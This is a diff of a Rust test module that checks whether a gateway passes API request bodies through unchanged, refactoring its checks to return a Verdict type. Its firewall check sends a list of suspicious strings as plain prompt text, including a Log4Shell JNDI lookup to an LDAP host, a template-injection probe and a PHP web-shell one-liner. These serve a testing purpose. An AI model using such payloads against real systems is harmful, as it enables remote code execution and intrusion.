@@ -1,10 +1,10 @@
 //! Checks of the request body: byte for byte where possible, and for every field that the client relies on.
 
-use super::bench::{Bench, arrived, is_the_providers, message, no_answer, refusal, refused};
+use super::bench::{Bench, is_the_providers, message, refusal};
 use super::check::{BlackBox, Check};
 use super::echo::Script;
-use super::finding::{Finding, Outcome};
-use super::requests::{UNKNOWN, for_free, plain_body, plain_headers, rich_body};
+use super::finding::{Finding, Outcome, Verdict};
+use super::requests::{UNKNOWN, for_free, plain_body, rich_body};
 use serde_json::{Value, json};
 
 const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
@@ -26,7 +26,7 @@ pub(super) const CHECKS: &[Check] = &[
         title: "the system array keeps its blocks, their order and the attribution block first",
         otherwise: "the attribution block becomes part of the prompt and of its cache key",
         black_box: BlackBox::No,
-        run: |bench| same(bench, "/system", "it").around("CLAUDE_CODE_ATTRIBUTION_HEADER=0"),
+        run: |bench| Ok(same(bench, "/system", "it")?.around("CLAUDE_CODE_ATTRIBUTION_HEADER=0")),
     },
     Check {
         id: "cache-control",
@@ -42,7 +42,7 @@ pub(super) const CHECKS: &[Check] = &[
         title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
         otherwise: "a 400 about thinking, or no thinking",
         black_box: BlackBox::No,
-        run: |bench| same(bench, "/thinking", "it").around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1"),
+        run: |bench| Ok(same(bench, "/thinking", "it")?.around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1")),
     },
     Check {
         id: "beta-fields",
@@ -78,26 +78,24 @@ pub(super) const CHECKS: &[Check] = &[
     },
 ];
 
-fn bytes(bench: &Bench) -> Finding {
+fn bytes(bench: &Bench) -> Verdict {
     let sent = plain_body(bench.model());
-    let (tried, arrived) = bench.through_echo(Script::Whole, bench.messages(plain_headers(), sent.clone()));
+    let (tried, arrived) = bench.through_echo(Script::Whole, bench.ask(&sent));
     let Some(request) = arrived.first() else {
-        return match tried {
-            Ok(heard) => Finding::broken(refusal(&heard)),
-            Err(failure) => no_answer(&failure, bench),
-        };
+        return Err(Finding::broken(refusal(bench.heard(&tried)?)));
     };
     if let Some(encoding) = request.header("content-encoding") {
-        return Finding::degraded(format!("it arrived compressed: {encoding}"));
+        return Ok(Finding::degraded(format!("it arrived compressed: {encoding}")));
     }
-    if request.body == sent {
-        return Finding::works(format!("{} bytes", sent.len()));
+    if request.body == sent.as_bytes() {
+        return Ok(Finding::works(format!("{} bytes", sent.len())));
     }
-    let (sent, got) = (serde_json::from_slice::<Value>(&sent).unwrap_or_default(), request.json());
-    if sent == got {
-        return Finding::degraded("re-serialized: same values, different bytes");
-    }
-    Finding::degraded(format!("re-serialized: {}", difference(&sent, &got)))
+    let (sent, got) = (serde_json::from_str::<Value>(&sent).unwrap_or_default(), request.json());
+    let how = match sent == got {
+        true => "same values, different bytes".to_owned(),
+        false => difference(&sent, &got),
+    };
+    Ok(Finding::degraded(format!("re-serialized: {how}")))
 }
 
 /// The first difference between two objects, in words.
@@ -118,40 +116,32 @@ fn difference(sent: &Value, got: &Value) -> String {
     parts.collect::<Vec<_>>().join("; ")
 }
 
-/// Compares the rich body as it was sent and as it arrived.
-fn rich(bench: &Bench, judge: impl FnOnce(&Value, &Value) -> Finding) -> Finding {
-    match arrived(bench) {
-        Ok(request) => {
-            let sent = serde_json::from_slice(&rich_body(bench.model())).unwrap_or_default();
-            judge(&sent, &request.json())
-        }
-        Err(finding) => finding,
-    }
+/// The rich body as it was sent and as it arrived.
+fn rich(bench: &Bench) -> Result<(Value, Value), Finding> {
+    let got = bench.arrived()?.json();
+    Ok((rich_body(bench.model()), got))
 }
 
 /// A part of the rich body, called `name` in the evidence, must arrive unchanged.
-fn same(bench: &Bench, pointer: &str, name: &str) -> Finding {
-    rich(bench, |sent, got| match got.pointer(pointer) {
-        Some(got) if Some(got) == sent.pointer(pointer) => Finding::works("unchanged"),
-        Some(got) => {
-            let got: String = got.to_string().chars().take(160).collect();
-            Finding::broken(format!("{name} arrived as {got}"))
-        }
-        None => Finding::broken(format!("{name} did not arrive")),
-    })
+fn same(bench: &Bench, pointer: &str, name: &str) -> Verdict {
+    let (sent, got) = rich(bench)?;
+    let Some(got) = got.pointer(pointer) else {
+        return Ok(Finding::broken(format!("{name} did not arrive")));
+    };
+    let shown: String = got.to_string().chars().take(160).collect();
+    let is_same = Some(got) == sent.pointer(pointer);
+    Ok(Finding::works_or_broken(is_same, "unchanged", format!("{name} arrived as {shown}")))
 }
 
 /// The places where something else arrived, or nothing.
 fn lost(places: &[&str], sent: &Value, got: &Value) -> Finding {
     let lost: Vec<_> =
         places.iter().filter(|place| got.pointer(place) != sent.pointer(place)).copied().collect();
-    if lost.is_empty() {
-        return Finding::works(format!("{} fields", places.len()));
-    }
-    Finding::broken(format!("lost or changed: {}", lost.join(", ")))
+    let evidence = format!("{} fields", places.len());
+    Finding::works_or_broken(lost.is_empty(), evidence, format!("lost or changed: {}", lost.join(", ")))
 }
 
-fn cache_control(bench: &Bench) -> Finding {
+fn cache_control(bench: &Bench) -> Verdict {
     let places = ["/system/1/cache_control", "/tools/0/cache_control", "/messages/0/content/1/cache_control"];
     // regardless of position: another check covers the order
     let marks = |value: &Value| {
@@ -160,12 +150,11 @@ fn cache_control(bench: &Bench) -> Finding {
         marks.sort();
         marks
     };
-    rich(bench, |sent, got| {
-        let wanted = marks(sent);
-        if wanted == marks(got) {
-            return Finding::works(format!("{} marks", wanted.len()));
-        }
-        lost(&places, sent, got)
+    let (sent, got) = rich(bench)?;
+    let wanted = marks(&sent);
+    Ok(match wanted == marks(&got) {
+        true => Finding::works(format!("{} marks", wanted.len())),
+        false => lost(&places, &sent, &got),
     })
 }
 
@@ -180,52 +169,42 @@ fn collect(value: &Value, into: &mut Vec<String>) {
     }
 }
 
-fn beta_fields(bench: &Bench) -> Finding {
+fn beta_fields(bench: &Bench) -> Verdict {
+    let (sent, got) = rich(bench)?;
     let places = ["/context_management", "/output_config", "/tools/0/defer_loading"];
-    rich(bench, |sent, got| lost(&places, sent, got).around(NO_BETAS))
+    Ok(lost(&places, &sent, &got).around(NO_BETAS))
 }
 
-fn unknown(bench: &Bench) -> Finding {
+fn unknown(bench: &Bench) -> Verdict {
     if bench.echo().is_some() {
         return same(bench, &format!("/{UNKNOWN}"), UNKNOWN);
     }
     let mut body = for_free("hi");
     body[UNKNOWN] = json!(true);
-    let tried = bench.send(&bench.messages(plain_headers(), body.to_string().into_bytes()));
-    refused(&tried, bench, |said| {
-        if said.contains(UNKNOWN) {
-            Finding::works(format!("the provider: {said}"))
-        } else {
-            Finding::broken(format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}"))
-        }
-    })
+    let said = bench.refused(&bench.send(&bench.ask(body)))?;
+    let fault = format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}");
+    Ok(Finding::works_or_broken(said.contains(UNKNOWN), format!("the provider: {said}"), fault))
 }
 
 /// A body that must pass: it reaches the echo unchanged, or the provider refuses its model.
-fn passes(bench: &Bench, text: &str) -> Finding {
+fn passes(bench: &Bench, text: &str) -> Verdict {
     let mut body = for_free(text);
     if bench.echo().is_some() {
         body["model"] = json!(bench.model());
     }
-    let ask = bench.messages(plain_headers(), body.to_string().into_bytes());
-    let (tried, arrived) = bench.through_echo(Script::Whole, ask);
-    let heard = match tried {
-        Ok(heard) => heard,
-        Err(failure) => return no_answer(&failure, bench),
-    };
+    let (tried, arrived) = bench.through_echo(Script::Whole, bench.ask(body));
+    let heard = bench.heard(&tried)?;
     if bench.echo().is_none() {
-        let by_provider = is_the_providers(&heard) && heard.status != 413;
-        return if by_provider { Finding::works(message(&heard)) } else { Finding::broken(refusal(&heard)) };
+        let passed = is_the_providers(heard) && heard.status != 413;
+        return Ok(Finding::works_or_broken(passed, message(heard), refusal(heard)));
     }
-    let Some(request) = arrived.first() else { return Finding::broken(refusal(&heard)) };
-    if request.json().to_string().contains(&json!(text).to_string().trim_matches('"').to_owned()) {
-        Finding::works(format!("{} bytes", request.body.len()))
-    } else {
-        Finding::broken("it arrived with changed text")
-    }
+    let request = arrived.first().ok_or_else(|| Finding::broken(refusal(heard)))?;
+    let kept = request.json().to_string().contains(json!(text).to_string().trim_matches('"'));
+    let evidence = format!("{} bytes", request.body.len());
+    Ok(Finding::works_or_broken(kept, evidence, "it arrived with changed text"))
 }
 
-fn large(bench: &Bench) -> Finding {
+fn large(bench: &Bench) -> Verdict {
     passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
 }
 
@@ -238,13 +217,13 @@ const SUSPICIOUS: &[(&str, &str)] = &[
     ("templates", "${jndi:ldap://192.0.2.1/a} {{7*7}} <?php system($_GET['c']); ?>"),
 ];
 
-fn waf(bench: &Bench) -> Finding {
+fn waf(bench: &Bench) -> Verdict {
     for (what, text) in SUSPICIOUS {
-        let finding = passes(bench, text);
+        let finding = passes(bench, text).unwrap_or_else(|finding| finding);
         if finding.outcome != Outcome::Works {
-            return Finding::broken(format!("{what}: {}", finding.evidence));
+            return Err(Finding::broken(format!("{what}: {}", finding.evidence)));
         }
     }
     let kinds: Vec<_> = SUSPICIOUS.iter().map(|(what, _)| *what).collect();
-    Finding::works(kinds.join(", "))
+    Ok(Finding::works(kinds.join(", ")))
 }
